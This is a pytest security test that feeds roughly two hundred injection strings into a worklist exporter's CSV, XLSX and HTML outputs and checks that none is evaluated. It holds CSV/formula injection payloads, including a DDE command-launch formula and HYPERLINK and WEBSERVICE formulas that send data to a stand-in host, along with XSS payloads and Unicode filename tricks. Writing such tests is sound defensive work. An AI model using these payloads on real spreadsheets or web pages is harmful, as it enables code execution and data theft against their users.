"""Two hundred attacks through every text that comes from outside: nothing is evaluated, nothing runs, nothing is hidden."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Sequence
from dataclasses import replace
from html.parser import HTMLParser
from itertools import product
from pathlib import Path

import openpyxl
import pytest

from conf import Settings
from tests.literal_worklist import literal_worklist
from tests.worklists.office import converted
from worklists.csv_file import worklist_csv
from worklists.page import worklist_page
from worklists.worklist import Call, Worklist
from worklists.xlsx import worklist_xlsx

PROGRAMS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1,"pay")', "=WEBSERVICE(\"http://x.test\")",
    "{=1+1}", "＝1+1", "|calc", "%0A=1+1", "=IMPORTXML(\"http://x.test\",\"//a\")",
)
BEFORE = ("", " ", "\t", "\r\n", "\n", "\u00a0", "\ufeff", "\x00", "\u200b", "\u3000", "x;", 'x",', "x\t", "'")
PAGES = (
    "<script>document.title='ran'</script>", "</script><script>1</script>", "<img src=x onerror=1>", "\" onmouseover=\"1",
    "' autofocus onfocus='1",
    "<svg/onload=1>", "</style><style>*{display:none}", "<!--", "]]>", "{{7*7}}", "{% raw %}", "javascript:1", "<iframe src=http://x.test>",
    "&lt;script&gt;", "<base href=http://x.test>", "<a href=javascript:1>x</a>", "<form action=http://x.test>", "\u2028alert(1)",
    "<math><mi xlink:href=javascript:1>", "<meta http-equiv=refresh content=0>",
)
TRICKS = (
    "pdf.\u202eexe", "\u2066a\u2069", "a\u200bb", "\u061c1", "\u200e1", "\U000e0041tag", "a\u0000b", "\ud7ff", "\x1b[2J", "\x08\x08x",
    "x" * 40_000, "汉" * 20_000,
)
ATTACKS = tuple(before + program for before, program in product(BEFORE, PROGRAMS)) + PAGES + TRICKS


@pytest.fixture(scope="module")
def attacked() -> list[Worklist]:
    """All attacks, fifty calls a worklist, each in every text of its call; the first one is also the RM's own number."""
    return [_worklist(ATTACKS[number : number + 50]) for number in range(0, len(ATTACKS), 50)]


def _worklist(texts: Sequence[str]) -> Worklist:
    calls = [replace(_call(text), alert_id=f"AL-{number}", place=number) for number, text in enumerate(texts, 1)]
    return replace(literal_worklist(), holder=f"RM{texts[0]}", calls=tuple(calls))


def _call(text: str) -> Call:
    """A call with a text in the name, the headline, the reason, an offer, the evidence, a change and another RM's number."""
    return literal_worklist(
        names={"C000101": text}, headline=text, reason=text, change=text, relationship_manager_id=text,
        evidence=[{"kind": text, "ref": text, "business_date": None, "amount": None, "note": text}],
        offers=[{"offer_id": text, "name": text, "probability": 0.1, "expected_value": 1.0, "reason": text}],
    ).calls[0]


def test_there_are_two_hundred() -> None:
    assert len(ATTACKS) >= 200


def test_no_cell_of_the_csv_is_a_formula_wherever_a_spreadsheet_splits_it(attacked: list[Worklist], settings: Settings) -> None:
    csv.field_size_limit(1 << 24)  # a wrong delimiter makes cells of whole files
    for worklist in attacked:
        text = worklist_csv(worklist, settings).decode("utf-8-sig")
        for delimiter in (",", ";", "\t"):
            for row in csv.reader(io.StringIO(text), delimiter=delimiter):
                for cell in row:
                    start = cell.lstrip(" \t\r\n\"\u00a0\ufeff\u3000")[:1]
                    number = cell.replace(".", "", 1).isdigit()
                    assert number or start not in {*"=+-@|%", "＝", "＋", "－", "＠"}, (delimiter, cell[:40])


def test_no_cell_of_the_workbook_is_a_formula(attacked: list[Worklist], settings: Settings) -> None:
    for worklist in attacked:
        with zipfile.ZipFile(io.BytesIO(worklist_xlsx(worklist, settings))) as packed:
            names = packed.namelist()
            assert not [name for name in names if "externalLink" in name or "worksheets/_rels" in name]
            sheets = b"".join(packed.read(name) for name in names if name.startswith("xl/worksheets/"))
        assert b"<f>" not in sheets
        assert b"<hyperlink" not in sheets


def test_no_attack_adds_a_tag_to_the_page(attacked: list[Worklist], settings: Settings) -> None:
    for worklist in attacked:
        page = worklist_page(worklist, settings).decode()
        harmless = worklist_page(_worklist(["harmless"] * len(worklist.calls)), settings).decode()
        assert _tags(page) == _tags(harmless)
        for hidden in ("\u202e", "\u2066", "\u200b", "\u061c", "\u200e", "\U000e0041", "\x00", "\x1b", "\x08"):
            assert hidden not in page


def test_libreoffice_evaluates_none_of_it(attacked: list[Worklist], settings: Settings, tmp_path: Path) -> None:
    for number, worklist in enumerate(attacked):
        (tmp_path / f"a{number}.xlsx").write_bytes(worklist_xlsx(worklist, settings))
        (tmp_path / f"c{number}.csv").write_bytes(worklist_csv(worklist, settings))

    saved = converted(sorted(tmp_path.glob("*.*")), "xlsx", tmp_path / "saved")

    assert len(saved) == 2 * len(attacked)
    for file in saved:
        for sheet in openpyxl.load_workbook(file, read_only=True):
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (file.name, cell.coordinate)


def _tags(page: str) -> list[tuple[str, ...]]:
    found = _Tags()
    found.feed(page)
    return found.tags


class _Tags(HTMLParser):
    """Every tag with the names of its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, ...]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, *(name for name, _ in attrs)))
